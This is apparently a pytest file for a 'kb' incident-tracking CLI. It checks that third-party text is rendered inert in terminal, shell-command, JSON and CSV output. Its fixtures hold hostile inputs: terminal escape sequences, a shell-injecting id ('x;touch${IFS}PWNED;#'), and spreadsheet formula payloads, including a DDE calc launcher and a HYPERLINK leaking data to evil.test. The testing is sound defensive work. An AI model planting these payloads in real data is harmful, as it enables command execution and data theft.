"""Third-party text at the CLI's exits: terminals, pasted shell commands, spreadsheets, usage.

Issue #15 items 3, 4, 5, 10 and 12, each through the real CLI (a `kb` subprocess, or `main()`
in process for the long parametrized usage-error list). One crafted Statuspage payload,
ingested with `kb ingest FILE --provider acme`, carries the classes at once: rich markup,
terminal controls (CSI, OSC title, OSC-8 hyperlink, C1 CSI, bidi override), a shell-injecting
incident id and spreadsheet formulas. docs/reliability.md ("Output to terminals, shells and
spreadsheets") lists what the user sees for each.
"""

from __future__ import annotations

import ast
import csv
import html
import io
import json
import os
import re
import shlex
import subprocess
import sys
import typing
from pathlib import Path

import pytest
import typer

from kb.config import PACKAGED_SOURCES
from tests.conftest import run_kb

ROOT = Path(__file__).resolve().parents[1]
FIX = ROOT / "tests" / "fixtures" / "statuspage"

ESC = "\x1b"
# What a terminal would act on: the ANSI clear screen, an OSC window title ended by BEL, an
# OSC-8 hyperlink whose text lies about its target, a C1 CSI (8-bit), a right-to-left override.
CONTROLS = (f"{ESC}[2J {ESC}]0;owned{chr(7)} {ESC}]8;;https://evil.test/{ESC}\\docs{ESC}]8;;"
            f"{ESC}\\ \x9b31m \u202e")
TITLE = f"API outage [/] [x]gone[/x] [bold]loud[/bold] :smile: {CONTROLS} end"
BODY = f"We are investigating [/] errors {CONTROLS} on the API."
EVIL_ID = "x;touch${IFS}PWNED;#"
EVIL_KEY = f"acme/{EVIL_ID}"
FORMULAS = {"f1": '=HYPERLINK("https://evil.test/?"&A1,"click")', "f2": "+1+cmd|' /C calc'!A0",
            "f3": "-2+3", "f4": "@SUM(1,2)"}
# A C0 control other than newline/tab, DEL, a C1 control, a lone surrogate, a bidi control.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")


def kb(home: Path, *args: str, **env: str) -> subprocess.CompletedProcess[bytes]:
    """`python -m kb ARGS` on `home`; output kept as bytes, to see exactly what a terminal
    would receive."""
    return run_kb(home, *args, text=False, KB_EMBED_MODEL="fake-hash",
                  KB_SITE_DIR=str(home / "build"), **env)


def run_main(home: Path, *args: str) -> tuple[int, bytes, bytes]:
    """`kb ARGS` through the console entry point (`kb.cli.main`) in this process: the same
    code as the subprocess without paying for a new interpreter per command. stdout/stderr
    are strict UTF-8 streams, as on a terminal (a lone surrogate could not be written)."""
    from kb.cli import main

    streams = [io.TextIOWrapper(io.BytesIO(), encoding="utf-8", newline="") for _ in "12"]
    env = {"KB_HOME": str(home), "KB_SOURCES": str(PACKAGED_SOURCES),
           "KB_EMBED_MODEL": "fake-hash", "KB_SITE_DIR": str(home / "build")}
    with pytest.MonkeyPatch.context() as patch:
        for name, value in env.items():
            patch.setenv(name, value)
        patch.delenv("KB_DATABASE_URL", raising=False)
        patch.delenv("KB_CONFIG", raising=False)
        patch.setattr(sys, "argv", ["kb", *args])
        patch.setattr(sys, "stdout", streams[0])
        patch.setattr(sys, "stderr", streams[1])
        try:
            main()
        except SystemExit as stop:
            code = stop.code if isinstance(stop.code, int) else 1
    for stream in streams:
        stream.flush()
    return code, streams[0].buffer.getvalue(), streams[1].buffer.getvalue()  # type: ignore


def incident(ident: str, title: str, body: str = "Investigating.") -> dict:
    return {
        "id": ident, "name": title, "status": "resolved", "impact": "major",
        "created_at": "2026-09-01T10:00:00Z", "updated_at": "2026-09-01T11:00:00Z",
        "resolved_at": "2026-09-01T11:00:00Z", "started_at": "2026-09-01T10:00:00Z",
        "shortlink": "https://stspg.io/x", "page_id": "p1",
        "components": [{"id": "c1", "name": "API [b]edge[/b]"}],
        "incident_updates": [
            {"id": f"{ident}-2", "status": "resolved", "body": "This incident has been resolved.",
             "created_at": "2026-09-01T11:00:00Z", "display_at": "2026-09-01T11:00:00Z"},
            {"id": f"{ident}-1", "status": "investigating", "body": body,
             "created_at": "2026-09-01T10:00:00Z", "display_at": "2026-09-01T10:00:00Z"},
        ],
    }


def statuspage(*incidents: dict) -> str:
    return json.dumps({"page": {"id": "p1", "name": "Acme", "url": "https://status.acme.test",
                                "time_zone": "Etc/UTC", "updated_at": "2026-09-02T00:00:00Z"},
                       "incidents": list(incidents)})


def hn_page(title: str) -> str:
    """An Algolia search page with one story (a signal for `kb signals`)."""
    return json.dumps({"hits": [{
        "_tags": ["story", "story_4242"], "objectID": "4242", "story_id": 4242, "title": title,
        "url": "https://news.example.test/acme", "created_at": "2026-09-01T10:05:00Z",
        "created_at_i": 1788256700, "points": 12, "num_comments": 3, "author": "someone",
    }], "nbHits": 1, "page": 0, "nbPages": 1, "hitsPerPage": 20, "query": "acme"})


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("output")
    payload = home / "acme.json"
    payload.write_text(statuspage(incident(EVIL_ID, TITLE, BODY),
                                  *(incident(k, v) for k, v in FORMULAS.items())))
    stored = kb(home, "ingest", str(payload), "--provider", "acme", "--embed")
    assert stored.returncode == 0, stored.stderr.decode()
    story = home / "hn.json"
    story.write_text(hn_page(TITLE))
    signals = kb(home, "ingest", str(story))
    assert signals.returncode == 0, signals.stderr.decode()
    linked = kb(home, "link")  # stories are made from stored items by linking
    assert linked.returncode == 0, linked.stderr.decode()
    return home


def inert(raw: bytes, where: object) -> str:
    """The text of a CLI output after checking that nothing in it acts on a terminal."""
    assert ESC.encode() not in raw and b"\x07" not in raw, where
    text = raw.decode("utf-8")  # strict: a lone surrogate would not even encode
    assert not UNSAFE.search(text), (where, UNSAFE.search(text))
    return text


# 3. Vendor text read as console markup ----------------------------------------------------

@pytest.mark.parametrize("args", [["incidents"], ["show", EVIL_KEY], ["signals"]],
                         ids=lambda a: a[0])
def test_vendor_markup_is_printed_as_text(home: Path, args: list[str]) -> None:
    result = kb(home, *args)
    assert result.returncode == 0, result.stderr.decode()
    shown = result.stdout.decode()
    # Before: MarkupError ("closing tag '[/]' ... has nothing to close"), and "[x]" vanished.
    assert "Traceback" not in result.stderr.decode()
    assert "API outage [/] [x]gone[/x] [bold]loud[/bold] :smile:" in shown


def test_show_prints_components_and_update_text_with_their_brackets(home: Path) -> None:
    shown = run_main(home, "show", EVIL_KEY)[1].decode()
    assert "API [b]edge[/b]" in shown and "We are investigating [/] errors" in shown


def test_a_warning_quoting_vendor_text_is_printed_and_every_error_too(tmp_path: Path) -> None:
    # A record the parser skips with a warning that quotes its id, beside a valid one; and a
    # second source that is malformed. Before: the warning raised MarkupError after storing,
    # exit 1, and the other source's error line was never printed.
    payload = tmp_path / "acme.json"
    payload.write_text(statuspage(incident("ok1", "Fine"), dict(incident("bad[/]", "x"),
                                                                 id="bad [/] id\nnext")))
    broken = tmp_path / "broken.json"
    broken.write_text('{"incidents": [')
    result = kb(tmp_path, "ingest", str(payload), str(broken), "--provider", "acme")
    stderr = result.stderr.decode()
    assert result.returncode == 5, stderr
    assert "Traceback" not in stderr
    # One line, whatever the id holds: its newline is shown as \u000a.
    assert any(line.startswith("warning:") and "bad [/] id\\u000anext" in line
               for line in stderr.splitlines()), stderr
    errors = [line for line in stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "broken.json" in errors[0], stderr
    assert json.loads(run_main(tmp_path, "show", "acme/ok1", "--json")[1])["title"] == "Fine"


# 4. Terminal escapes ----------------------------------------------------------------------

@pytest.mark.parametrize("args", [
    ["incidents"], ["show", EVIL_KEY], ["search", "API outage"], ["signals"],
    ["similar", EVIL_KEY], ["causes", EVIL_KEY], ["postmortem", EVIL_KEY],
    ["export", "--format", "csv"], ["stats"], ["metrics", "--provider", "acme"],
], ids=lambda a: "-".join(a[:1] + [x for x in a[1:] if x.startswith("--")]))
def test_no_control_character_reaches_the_terminal(home: Path, args: list[str]) -> None:
    code, stdout, stderr = run_main(home, *args)
    assert code == 0, stderr.decode()
    inert(stderr, args)
    shown = inert(stdout, args)
    if args[0] in ("similar", "stats", "metrics", "postmortem"):
        return  # other incidents' titles, none, or the draft's own cleaning of vendor text
    # Made visible, not silently dropped: the reader sees that the title holds an escape.
    assert "\\u001b[2J" in shown and "\\u009b31m" in shown and "\\u202e" in shown


def test_terminal_escapes_through_the_real_cli(home: Path) -> None:
    result = kb(home, "show", EVIL_KEY)  # before: ESC[2J, OSC and OSC-8 reached the terminal
    assert result.returncode == 0
    assert "\\u001b[2J" in inert(result.stdout, "show")


@pytest.mark.parametrize("args", [
    ["show", EVIL_KEY, "--json"], ["incidents", "--json"], ["search", "API outage", "--json"],
    ["signals", "--json"], ["export"], ["postmortem", EVIL_KEY, "--format", "json"],
], ids=lambda a: "-".join(a[:1] + [x for x in a[1:] if x.startswith("--")]))
def test_json_output_escapes_every_control_and_keeps_the_exact_text(
        home: Path, args: list[str]) -> None:
    # json.dumps escapes C0 only, and rich's print_json and ensure_ascii=False left DEL, C1
    # and bidi raw; "\u009b" is both visible and the JSON escape of the same character.
    code, stdout, stderr = run_main(home, *args)
    assert code == 0, stderr.decode()
    text = inert(stdout, args)
    if args[0] == "export":
        data = [json.loads(line) for line in text.splitlines()]
    elif args[0] == "postmortem":
        assert "\\u009b31m" in text
        return
    else:
        data = json.loads(text)
    assert TITLE in _strings(data), "the title is not kept exactly"


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def test_escape_controls_keeps_text_and_layout() -> None:
    from kb.terminal import escape_controls

    assert escape_controls("plain [x] text") == "plain [x] text"
    assert escape_controls("a\nb\tc") == "a\nb\tc"
    assert escape_controls("über 東京 ✓") == "über 東京 ✓"
    assert escape_controls("\x1b[2J\r\x9b\u202e\ud800") == "\\u001b[2J\\u000d\\u009b\\u202e\\ud800"
    assert escape_controls("a\u2028b\u2029") == "a\\u2028b\\u2029"  # splitlines() ends lines there
    once = escape_controls(CONTROLS)
    assert escape_controls(once) == once and not UNSAFE.search(once)


# 5. Copy-paste command injection ----------------------------------------------------------

def test_site_commands_paste_as_exactly_the_intended_argv(home: Path, tmp_path: Path) -> None:
    built = kb(home, "site", "build")
    assert built.returncode == 0, built.stderr.decode()
    pages = [p.read_text(encoding="utf-8") for p in (home / "build" / "site").rglob("*.html")]
    commands = {html.unescape(m) for page in pages
                for m in re.findall(r"(kb (?:show|postmortem) [^<]*?)(?:</code>|\s{3}\(|<)",
                                    page) if "PWNED" in m}
    expected = {("kb", "show", EVIL_KEY), ("kb", "postmortem", EVIL_KEY, "--template", "sre")}
    assert {tuple(shlex.split(c)) for c in commands} == expected, commands
    # Pasted into a real shell, with a `kb` that records its argv: nothing else runs.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "kb"
    fake.write_text(f"#!{sys.executable}\nimport json, sys\n"
                    "print(json.dumps(sys.argv[1:]))\n")
    fake.chmod(0o755)
    for command in commands:
        ran = subprocess.run(["sh", "-c", command], capture_output=True, text=True, cwd=tmp_path,
                             env=dict(os.environ, PATH=f"{bin_dir}:{os.environ['PATH']}"),
                             check=True)
        assert EVIL_KEY in json.loads(ran.stdout)
    assert not list(tmp_path.rglob("PWNED*"))


def test_printed_commands_quote_or_refuse() -> None:
    from kb.shell import command_line, kb_command

    assert shlex.split(kb_command("show", "a/b c;d")) == ["kb", "show", "a/b c;d"]
    assert shlex.split(kb_command("show", "-x/y")) == ["kb", "show", "--", "-x/y"]
    assert shlex.split(kb_command("postmortem", "-x/y", "--template", "sre")) == [
        "kb", "postmortem", "--template", "sre", "--", "-x/y"]
    assert command_line("kb", "show", "a/\x1b[2J") is None  # cannot be copied as it is
    assert command_line("kb", "show", "a/\u200bb") is None  # invisible on a page


# 10. Usage errors -------------------------------------------------------------------------

def _commands() -> list[list[str]]:
    from kb.cli import app

    def walk(command: object, path: list[str]) -> list[list[str]]:
        found = [path]
        for name, sub in sorted(getattr(command, "commands", {}).items()):
            found += walk(sub, [*path, name])
        return found

    return walk(typer.main.get_command(app), [])


def _usage_cases() -> list[list[str]]:
    """For every command: an unknown option; for each of its int/float options a word; for
    a command with a required argument, nothing."""
    from kb.cli import app

    cases = []
    root = typer.main.get_command(app)
    for path in _commands():
        command = root
        for name in path:
            command = command.commands[name]  # type: ignore[attr-defined]
        cases.append([*path, "--no-such-option"])
        for param in command.params:
            annotation = param.type_descriptor.annotation  # type: ignore[attr-defined]
            if param.param_type_name == "option" and {int, float} & {
                    annotation, *typing.get_args(annotation)}:
                cases.append([*path, param.opts[0], "abc"])
        if any(p.param_type_name == "argument" and p.required for p in command.params):
            cases.append(path)
    return cases


@pytest.mark.parametrize("argv", _usage_cases(), ids=lambda a: " ".join(a) or "kb")
def test_every_usage_error_is_one_line_and_exit_2(
        argv: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        tmp_path: Path) -> None:
    from kb.cli import main

    monkeypatch.setenv("KB_HOME", str(tmp_path))
    monkeypatch.setattr(sys, "argv", ["kb", *argv])
    with pytest.raises(SystemExit) as stop:
        main()
    captured = capsys.readouterr()
    assert stop.value.code == 2, captured.err
    lines = captured.err.splitlines()
    assert len(lines) == 1, captured.err
    command = " ".join(["kb", *[a for a in argv if not a.startswith("-") and a != "abc"]])
    assert lines[0].startswith(f"{command}: "), lines[0]
    assert captured.out == ""


@pytest.mark.parametrize("args", [["search", "-error"], ["show"], ["incidents", "--limit", "abc"],
                                  ["incidents", "--bogus"], ["no-such-command"]],
                         ids=" ".join)
def test_usage_errors_named_in_the_issue(tmp_path: Path, args: list[str]) -> None:
    code, stdout, stderr = run_main(tmp_path, *args)
    assert code == 2, stderr
    assert len(stderr.splitlines()) == 1 and b"Traceback" not in stderr, stderr
    assert b"--help" in stderr and stdout == b""


def test_a_usage_error_through_a_subprocess(tmp_path: Path) -> None:
    result = kb(tmp_path, "search", "-error")  # before: a typer._click traceback, exit 1
    assert result.returncode == 2
    assert result.stderr.decode() == (
        "kb search: No such option: -e Try 'kb search --help'.\n")


def test_kb_alone_prints_its_help(tmp_path: Path) -> None:
    code, _stdout, stderr = run_main(tmp_path)
    assert code == 2 and b"Commands" in stderr


# 12. CSV formula injection ----------------------------------------------------------------

def test_csv_export_neutralises_formulas(home: Path, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    assert kb(home, "export", "--format", "csv", "-o", str(target)).returncode == 0
    for source in (target.read_text(encoding="utf-8"),
                   run_main(home, "export", "--format", "csv")[1].decode()):
        rows = list(csv.DictReader(io.StringIO(source)))
        titles = {row["native_id"]: row["title"] for row in rows}
        for ident, formula in FORMULAS.items():
            assert titles[ident] == "'" + formula  # shown as the text it is
        for row in rows:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_cell() -> None:
    from kb.present import csv_cell

    assert csv_cell("\t=1+1") == "'\t=1+1"
    assert csv_cell("\r=1") == "\\u000d=1"  # a CR is made visible, so nothing starts it
    assert csv_cell("API outage") == "API outage"
    assert csv_cell("-") == "'-"
    assert csv_cell(3) == 3 and csv_cell(None) is None  # counts stay numbers


# Every console is safe, so future code cannot forget ---------------------------------------

def test_no_module_builds_its_own_console_or_parses_markup() -> None:
    offenders = []
    for path in sorted((ROOT / "kb").rglob("*.py")):
        if path.name == "terminal.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
                if name in ("Console", "from_markup", "render_markup"):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}()")
                offenders += [f"{path.relative_to(ROOT)}:{node.lineno} markup=True"
                              for k in node.keywords if k.arg == "markup"
                              and isinstance(k.value, ast.Constant) and k.value.value is True]
    assert not offenders, "print through kb.commands.common out/err (SafeConsole): " + ", ".join(
        offenders)
